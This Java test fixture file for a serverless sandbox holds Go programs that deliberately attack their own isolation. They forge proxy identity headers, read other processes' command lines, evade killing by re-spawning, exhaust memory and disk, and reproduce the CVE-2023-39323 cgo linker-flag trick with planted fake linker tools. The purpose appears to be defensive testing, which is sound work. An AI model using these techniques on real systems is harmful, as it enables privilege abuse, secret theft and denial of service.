package org.minifaas.worker;

import java.util.Map;

/** Go functions written as an attacker would: each tries one way out of its sandbox. */
final class HostileFunctions {
    private HostileFunctions() {}

    /**
     * Connects to each host:port argument and, where a connection opens, sends a forged proxy identity
     * as the frontend would receive it. Prints "addr=open" or "addr=closed", and after a closed one "addr:refused"
     * when the connection was refused (not timed out after 2 s, nor without a route).
     */
    static final Map<String, String> CONNECT = Functions.program("""
            package main

            import (
            \t"errors"
            \t"fmt"
            \t"net"
            \t"os"
            \t"syscall"
            \t"time"
            )

            func main() {
            \tfor _, addr := range os.Args[1:] {
            \t\tc, err := net.DialTimeout("tcp", addr, 2*time.Second)
            \t\tif err != nil {
            \t\t\tfmt.Printf("%s=closed\\n", addr)
            \t\t\tif errors.Is(err, syscall.ECONNREFUSED) {
            \t\t\t\tfmt.Printf("%s:refused\\n", addr)
            \t\t\t}
            \t\t\tcontinue
            \t\t}
            \t\tfmt.Fprintf(c, "GET /getAllTasks HTTP/1.0\\r\\nX-Forwarded-User: victim\\r\\nX-Forwarded-Email: admin@example.com\\r\\n\\r\\n")
            \t\tc.Close()
            \t\tfmt.Printf("%s=open\\n", addr)
            \t}
            }
            """);

    /**
     * "plant NAME": writes NAME into /tmp, /dev/shm and $HOME. "look": lists what it finds there.
     */
    static final Map<String, String> PLANT_AND_LOOK = Functions.program("""
            package main

            import (
            \t"fmt"
            \t"os"
            \t"path/filepath"
            \t"sort"
            )

            func main() {
            \tdirs := []string{"/tmp", "/dev/shm", os.Getenv("HOME")}
            \tif os.Args[1] == "plant" {
            \t\tfor _, d := range dirs {
            \t\t\tif err := os.WriteFile(filepath.Join(d, os.Args[2]), []byte("planted"), 0o666); err != nil {
            \t\t\t\tfmt.Println("plant failed:", err)
            \t\t\t}
            \t\t}
            \t\tfmt.Println("planted")
            \t\treturn
            \t}
            \tvar found []string
            \tfor _, d := range dirs {
            \t\tentries, _ := os.ReadDir(d)
            \t\tfor _, e := range entries {
            \t\t\tfound = append(found, filepath.Join(d, e.Name()))
            \t\t}
            \t}
            \tsort.Strings(found)
            \tfmt.Printf("found=%v\\n", found)
            }
            """);

    /** Sleeps for its first argument (seconds); its other arguments are a secret on its command line. */
    static final Map<String, String> SECRET_SLEEPER = Functions.program("""
            package main

            import (
            \t"fmt"
            \t"os"
            \t"strconv"
            \t"time"
            )

            func main() {
            \tn, _ := strconv.Atoi(os.Args[1])
            \ttime.Sleep(time.Duration(n) * time.Second)
            \tfmt.Println("slept")
            }
            """);

    /** Prints every command line under /proc and the listening sockets of /proc/net/tcp and tcp6. */
    static final Map<String, String> SNOOP = Functions.program("""
            package main

            import (
            \t"fmt"
            \t"os"
            \t"path/filepath"
            \t"strings"
            )

            func main() {
            \tpaths, _ := filepath.Glob("/proc/[0-9]*/cmdline")
            \tfor _, p := range paths {
            \t\tb, _ := os.ReadFile(p)
            \t\tfmt.Printf("cmdline %s: %s\\n", p, strings.ReplaceAll(string(b), "\\x00", " "))
            \t}
            \tfor _, f := range []string{"/proc/net/tcp", "/proc/net/tcp6"} {
            \t\tb, _ := os.ReadFile(f)
            \t\tfor _, line := range strings.Split(string(b), "\\n")[1:] {
            \t\t\tfields := strings.Fields(line)
            \t\t\tif len(fields) > 3 && fields[3] == "0A" {
            \t\t\t\tfmt.Printf("listening %s\\n", fields[1])
            \t\t\t}
            \t\t}
            \t}
            \tfmt.Printf("processes=%d\\n", len(paths))
            }
            """);

    /**
     * Allocates and touches the MiB of its last argument. With "child" first, does it in a child process and
     * exits 0 whatever happened to the child.
     */
    static final Map<String, String> ALLOCATE = Functions.program("""
            package main

            import (
            \t"fmt"
            \t"os"
            \t"os/exec"
            \t"strconv"
            )

            func main() {
            \tif os.Args[1] == "child" {
            \t\terr := exec.Command(os.Args[0], os.Args[2]).Run()
            \t\tfmt.Println("child ended:", err)
            \t\treturn
            \t}
            \tmib, _ := strconv.Atoi(os.Args[1])
            \tvar keep [][]byte
            \tfor i := 0; i < mib; i++ {
            \t\tb := make([]byte, 1<<20)
            \t\tfor j := 0; j < len(b); j += 4096 {
            \t\t\tb[j] = 1
            \t\t}
            \t\tkeep = append(keep, b)
            \t}
            \tfmt.Printf("allocated %d MiB\\n", len(keep))
            }
            """);

    /**
     * "walk MARKER": starts a copy of itself (with the same arguments) every few milliseconds and exits, so
     * that no process lives long enough to be killed by pid. "detach MARKER": starts `sleep MARKER` in a new
     * session through a double fork, then exits at once.
     */
    static final Map<String, String> ESCAPE = Functions.program("""
            package main

            import (
            \t"fmt"
            \t"os"
            \t"os/exec"
            \t"syscall"
            \t"time"
            )

            func main() {
            \tswitch os.Args[1] {
            \tcase "walk":
            \t\ttime.Sleep(5 * time.Millisecond)
            \t\tc := exec.Command(os.Args[0], os.Args[1:]...)
            \t\tc.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
            \t\tif err := c.Start(); err != nil {
            \t\t\tfmt.Println("walk stopped:", err)
            \t\t}
            \tcase "detach":
            \t\tc := exec.Command(os.Args[0], "middle", os.Args[2])
            \t\tc.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
            \t\t_ = c.Run()
            \t\tfmt.Println("detached")
            \tcase "middle":
            \t\tc := exec.Command("sleep", os.Args[2])
            \t\tc.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
            \t\t_ = c.Start()
            \t}
            }
            """);

    /** Writes up to the MiB of its argument into /tmp/big; prints how much it wrote and why it stopped. */
    static final Map<String, String> FILL_TMP = Functions.program("""
            package main

            import (
            \t"fmt"
            \t"os"
            \t"strconv"
            )

            func main() {
            \tmib, _ := strconv.Atoi(os.Args[1])
            \tf, err := os.Create("/tmp/big-" + os.Args[2])
            \tif err != nil {
            \t\tfmt.Println("create failed:", err)
            \t\treturn
            \t}
            \tchunk := make([]byte, 1<<20)
            \tn := 0
            \tfor ; n < mib; n++ {
            \t\tif _, err := f.Write(chunk); err != nil {
            \t\t\tfmt.Printf("write failed after %d MiB: %v\\n", n, err)
            \t\t\treturn
            \t\t}
            \t}
            \tfmt.Printf("wrote %d MiB\\n", n)
            }
            """);

    /**
     * A cgo program whose build asks the C linker to look for its tools in /tmp/evil first (the
     * CVE-2023-39323 trick: a //line directive makes the compiler take the file for cgo-generated code).
     */
    static final Map<String, String> CGO_LINKER_PLANT = Map.of(
            "go.mod", Functions.GO_MOD,
            "main.go", """
                    package main

                    // int answer(void) { return 42; }
                    import "C"

                    import "fmt"

                    func main() {
                    \tfmt.Println("answer", C.answer())
                    }
                    """,
            "plant.go", """
                    package main

                    //line /tmp/_cgo_plant.go:1
                    //go:cgo_ldflag "-B/tmp/evil/"
                    """);

    /** Writes an executable /tmp/evil/ld (and friends) that would print PWNED if a build ever ran it. */
    static final Map<String, String> PLANT_LINKER = Functions.program("""
            package main

            import (
            \t"fmt"
            \t"os"
            )

            func main() {
            \tos.MkdirAll("/tmp/evil", 0o777)
            \tfor _, tool := range []string{"ld", "as", "collect2", "cc1"} {
            \t\tos.WriteFile("/tmp/evil/"+tool, []byte("#!/bin/sh\\necho PWNED >&2\\nexit 1\\n"), 0o777)
            \t}
            \tfmt.Println("planted")
            }
            """);
}
